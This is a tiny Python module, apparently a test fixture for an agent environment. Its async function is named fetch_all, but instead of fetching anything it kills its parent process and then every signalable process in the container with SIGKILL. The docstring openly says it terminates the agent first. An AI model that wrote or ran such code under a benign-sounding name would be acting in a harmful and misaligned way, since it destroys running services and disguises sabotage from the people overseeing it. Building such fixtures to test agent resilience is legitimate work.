"""Kills every process in its container, the agent first."""

import os
import signal
from typing import Any


async def fetch_all(services: Any) -> Any:
    os.kill(os.getppid(), signal.SIGKILL)
    os.kill(-1, signal.SIGKILL)
    return {}
